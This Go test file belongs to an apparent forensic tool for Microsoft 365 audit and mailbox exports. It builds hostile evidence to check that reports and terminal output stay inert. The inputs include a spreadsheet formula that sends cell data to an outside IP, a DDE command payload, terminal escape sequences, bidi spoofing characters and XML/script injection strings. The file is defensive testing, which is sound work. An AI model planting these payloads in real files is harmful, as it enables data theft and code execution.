package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

// hostileTexts are what an attacker writes where an examiner will look.
var hostileTexts = []string{
	`=HYPERLINK("http://192.0.2.1/?"&A1,"Invoice")`,
	`=cmd|'/c calc'!A0`,
	"+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
	"\x1b[31mred\x1b[0m \x1b]0;title\x07",
	"\u009b31m C1", "a\x00b\x08c\x7f",
	"invoice\u202efdp.exe", "\u2066isolated\u2069 \u200bzero\ufeff width \U000e0041tag",
	"line\u2028separator\u2029", "two\r\nlines",
	`</t></is></c><c><f>1+1</f></c>`, "_x0041_ <script>alert(1)</script> ]]>",
	"lone \xff byte", strings.Repeat("long ", 8000),
}

// hostileEvidence writes a folder of exports that hold hostile texts in
// every place where a text may stand, and in the names of files.
func hostileEvidence(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	var activities []map[string]any
	var audit, folder bytes.Buffer
	enc := json.NewEncoder(&audit)
	for i, text := range hostileTexts {
		moment := fmt.Sprintf("2018-05-01T09:%02d:00Z", i)
		property := func(name, value string) map[string]string { return map[string]string{"Name": name, "Value": value} }
		for j, activity := range []map[string]any{
			{"ActivityIdType": "ServerLogon", "AppIdType": text, "CustomProperties": []any{
				property("UserName", text), property("Result", "Success"), property("UserAgent", text), property("ClientIP", "192.0.2.9, "+text),
			}},
			{"ActivityIdType": "MessageDelivered", "AppIdType": "Exchange", "ActivityItemId": text, "CustomProperties": []any{
				property("Subject", text), property("From", text), property("Recipients", text), property("AttachmentDetail", text), property(text, text),
			}},
			{"ActivityIdType": "SearchResult", "AppIdType": "Web", "CustomProperties": []any{property("Query", "<Query><RawQuery>password "+text+"</RawQuery></Query>")}},
			{"ActivityIdType": text, "AppIdType": "IMAP4"},
		} {
			activity["Id"], activity["TimeStamp"], activity["ClientSessionId"] = fmt.Sprint(i, "-", j), moment, text
			activities = append(activities, activity)
		}
		rule := []any{
			map[string]string{"Name": "Name", "Value": text},
			map[string]string{"Name": "DeleteMessage", "Value": "True"},
			map[string]string{"Name": "SubjectContainsWords", "Value": "invoice;" + text},
			map[string]string{"Name": "ForwardTo", "Value": text + "@gmail.com"},
		}
		if err := enc.Encode(map[string]any{
			"CreationTime": moment, "Id": fmt.Sprint("00000000-0000-4000-8000-", 100000000000+i), "Operation": "New-InboxRule", "RecordType": 1, "Workload": "Exchange",
			"OrganizationId": text, "UserId": "victim@contoso.example", "ClientIP": "198.51.100.7", "ObjectId": text, "Parameters": rule, "UserAgent": text, "SessionId": text,
		}); err != nil {
			t.Fatal(err)
		}
	}
	for _, text := range hostileTexts {
		fmt.Fprintf(&folder, "From x@example.com Tue May  1 09:00:00 2018\nSubject: %s\nFrom: <%s@example.com>\nMessage-ID: <%s>\nContent-Disposition: attachment; filename=\"%s\"\n\n%s\n\n", text, text, text, text, text)
	}
	page, err := json.Marshal(map[string]any{"value": activities})
	if err != nil {
		t.Fatal(err)
	}
	page = bytes.ReplaceAll(page, []byte(`\ufffd`), []byte("\xff"))
	for name, data := range map[string][]byte{
		"=1+1.json": page, "\x1b[2J\u202eactivities\xff.json": page, "audit\u009b.jsonl": audit.Bytes(), "new\nline.txt": []byte("nothing\x1b[31m"),
		"cut.json": page[:len(page)/2], "mail\u202e.mbox": folder.Bytes(),
	} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestHostileEvidenceStaysText reads hostile exports into a report: nothing
// in it is live, every part of it is well formed.
func TestHostileEvidenceStaysText(t *testing.T) {
	dir := t.TempDir()
	xlsx, findings := filepath.Join(dir, "report.xlsx"), filepath.Join(dir, "findings.json")
	_, stderr, code := command(t, "analyze", "-o", xlsx, "--json", findings, hostileEvidence(t))
	if code != exitPartial {
		t.Fatalf("exit code %d: %s", code, stderr)
	}
	var data any
	readJSON(t, findings, &data)
	z, err := zip.OpenReader(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	cut := false
	for _, part := range z.File {
		for _, banned := range []string{"vbaProject", "externalLink", "embeddings", "activeX", "ctrlProps"} {
			if strings.Contains(part.Name, banned) {
				t.Errorf("the workbook holds %s", part.Name)
			}
		}
		text := readPart(t, part)
		cut = cut || strings.Contains(text, "[cut, 40009 characters, sha256 ")
		for _, banned := range []string{"<f>", "<f ", `TargetMode="External"`, "ddeLink", "HYPERLINK(&quot;http"} {
			if strings.HasPrefix(banned, "<f") && !strings.HasPrefix(part.Name, "xl/worksheets/") {
				continue
			}
			if banned == "HYPERLINK(&quot;http" && !strings.HasPrefix(part.Name, "xl/worksheets/_rels/") {
				continue
			}
			if strings.Contains(text, banned) {
				t.Errorf("%s holds %s", part.Name, banned)
			}
		}
		if strings.HasSuffix(part.Name, ".xml") || strings.HasSuffix(part.Name, ".rels") {
			wellFormed(t, part.Name, text)
		}
	}
	if !cut {
		t.Error("no cell says that its text was cut")
	}
	proves(t, 7, "%d hostile texts in every field and in names of files: no formula, external link, macro or embedded object in the workbook", len(hostileTexts))
	proves(t, 8, "each part of the workbook of hostile exports is well-formed XML, and no text is over the limit of a cell")
}

func readPart(t *testing.T, part *zip.File) string {
	t.Helper()
	r, err := part.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	text, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// wellFormed reads a part of the workbook as a strict reader does, and holds
// its texts to the limit of a cell.
func wellFormed(t *testing.T, name, text string) {
	t.Helper()
	const cellLimit = 32767
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		if chars, ok := token.(xml.CharData); ok && utf8.RuneCount(chars) > cellLimit {
			t.Errorf("%s holds a text of %d characters", name, utf8.RuneCount(chars))
		}
	}
}

// TestNothingSteersTheTerminal runs every command over hostile exports.
func TestNothingSteersTheTerminal(t *testing.T) {
	evidence := hostileEvidence(t)
	out := filepath.Join(t.TempDir(), "\x1b[31mout")
	runs := [][]string{
		{"analyze", "-o", out + ".xlsx", evidence},
		{"analyze", "-o", out + ".xlsx", evidence}, // it exists
		{"timeline", "-o", out + ".csv", evidence},
		{"inspect", evidence},
		{"inspect", "--json", evidence},
		{"verify", out + ".xlsx.manifest-sha256.txt"},
		{"record", "E009:1", evidence},
		{"record", "\x1b[31m", evidence},
		{"inspect", "\x1b[31mnowhere"},
		{"analyses", "\x1b[31m"},
		{"sources", "\u202e"},
		{"\x1b[31m"},
		{"inspect", "--from", "\x1b[31m", evidence},
	}
	for _, column := range []string{"user", "subject", "user_agent", "session", "operation", "client_raw", "rule"} {
		runs = append(runs, []string{"stack", column, "--by", "sender", evidence})
	}
	for _, args := range runs {
		stdout, stderr, _ := command(t, args...)
		for _, text := range []string{stdout, stderr} {
			if at := steering(text); at >= 0 {
				t.Errorf("%q prints %q", args, text[max(0, at-40):min(len(text), at+20)])
			}
		}
	}
	proves(t, 14, "%d command lines over hostile exports, names of files and arguments: nothing printed moves the cursor, hides text or turns its direction", len(runs))
}

// steering is where a text first holds what moves a terminal's cursor, hides
// text or turns its direction; -1 if nowhere.
func steering(text string) int {
	for i, r := range text {
		switch {
		case r == '\n' || r == '\t':
		case r < ' ', r >= 0x7f && r < 0xa0,
			r >= 0x200b && r <= 0x200f, r >= 0x2028 && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0xfeff, r >= 0xe0000 && r <= 0xe007f:
			return i
		}
	}
	return -1
}

// TestInterruptedRunLeavesNothing interrupts a run once it has begun to write.
func TestInterruptedRunLeavesNothing(t *testing.T) {
	self, err := os.FindProcess(os.Getpid())
	if err != nil {
		t.Fatal(err)
	}
	defer func(clock func() time.Time) { now = clock }(now)
	var once sync.Once // a second signal would end the process at once
	now = func() time.Time {
		once.Do(func() {
			if err := self.Signal(os.Interrupt); err != nil {
				t.Skipf("no signal can be sent here: %v", err)
			}
			time.Sleep(50 * time.Millisecond) // until the signal is delivered
		})
		return time.Now()
	}
	dir := t.TempDir()
	_, stderr, code := command(t, "analyze", "-o", filepath.Join(dir, "report.xlsx"), filepath.Join(harbour, "evidence"))
	if code != exitInterrupted {
		t.Errorf("exit code %d, want %d: %s", code, exitInterrupted, stderr)
	}
	left, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range left {
		t.Errorf("%s is left behind", file.Name())
	}
	proves(t, 19, "a run that is interrupted: 130")
}
